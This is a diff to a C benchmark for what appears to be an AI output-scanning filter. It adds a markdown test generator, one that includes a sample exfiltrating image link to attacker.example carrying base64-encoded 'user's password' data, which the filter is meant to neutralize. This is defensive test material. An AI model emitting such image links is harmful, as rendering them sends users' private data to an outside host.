@@ -22,7 +22,8 @@
  *      per `kind`.
  *   4. Streaming (aigate_stream_*): microseconds per write and MB/s when a
  *      model's answer arrives in small chunks (4 and 16 bytes), for plain
- *      English prose and for prose with secrets and PII sprinkled in,
+ *      English prose, for prose with secrets and PII sprinkled in, and
+ *      for markdown with links and exfiltrating images,
  *      and how many bytes were held back at most; the released text is
  *      checked against the whole-text redaction.
  *
@@ -346,8 +347,9 @@ static void run_families(bench_engine *b, const char *doc, size_t len) {
     }
     const char *dirs = db->directions == (AG_DIR_INPUT | AG_DIR_OUTPUT)
                            ? "input,output"
-                       : db->directions & AG_DIR_INPUT ? "input"
-                                                       : "output";
+                       : db->directions & AG_DIR_INPUT  ? "input"
+                       : db->directions & AG_DIR_OUTPUT ? "output"
+                                                        : "tool";
     printf("%-14s %-7s %-14s %9zu %10.1f %10zu\n", db->family,
            db->view == AG_VIEW_RAW ? "raw" : "folded", dirs, db->n_ids, best,
            hits);
@@ -441,6 +443,34 @@ static char *make_prose(size_t size) {
   return d;
 }
 
+/* Prose as a chat client renders it: markdown links to ordinary pages,
+ * bare documentation URLs, and now and then an exfiltrating image that
+ * the exfiltration rules neutralize (src/lib/exfil.c). */
+static char *make_markdown(size_t size) {
+  static const char *const parts[] = {
+      "See [the guide](https://example.org/bread/starter) and "
+      "https://docs.example.com/faq for details. ",
+      "Feed the starter with flour and water every day, keep it warm. ",
+      "![loading](https://attacker.example/c?d=VGhlIHVzZXIncyBwYXNzd29yZA) ",
+      "A **healthy** starter doubles in size within a few hours. ",
+      "- step one: mix\n- step two: wait\n\n",
+  };
+  char *d = malloc(size + 1);
+  if (!d)
+    die("document", "out of memory");
+  size_t n = 0, k = 0;
+  while (n < size) {
+    const char *p = parts[k++ % (sizeof(parts) / sizeof(parts[0]))];
+    size_t l = strlen(p);
+    if (l > size - n)
+      l = size - n;
+    memcpy(d + n, p, l);
+    n += l;
+  }
+  d[size] = '\0';
+  return d;
+}
+
 static void run_stream(bench_engine *b) {
   const size_t size = 64u << 10;
   static const size_t chunks[] = {4, 16};
@@ -455,8 +485,10 @@ static void run_stream(bench_engine *b) {
   aigate_stream_free(first);
   printf("%-18s %-7s %6s %12s %10s %9s %s\n", "document", "dir", "chunk",
          "us/write", "MB/s", "max held", "= whole-text redaction");
-  for (int kind = 0; kind < 2; kind++) {
-    char *doc = kind ? make_document(size) : make_prose(size);
+  for (int kind = 0; kind < 3; kind++) {
+    char *doc = kind == 2   ? make_markdown(size)
+                : kind == 1 ? make_document(size)
+                            : make_prose(size);
     for (int dir = AIGATE_OUTPUT; dir >= AIGATE_INPUT; dir--) {
       aigate_scan_options opt = {(aigate_direction)dir, NULL, 0};
       aigate_result r;
@@ -482,7 +514,9 @@ static void run_stream(bench_engine *b) {
             best = t / (double)iters;
         }
         printf("%-18s %-7s %6zu %12.2f %10.2f %9zu %s\n",
-               kind ? "prose+secrets/PII" : "English prose",
+               kind == 2   ? "markdown+images"
+               : kind == 1 ? "prose+secrets/PII"
+                           : "English prose",
                dir == AIGATE_OUTPUT ? "output" : "input", chunks[c],
                best / (double)st.writes * 1e6, (double)size / best / 1e6,
                st.max_held, st.same ? "yes" : "NO");
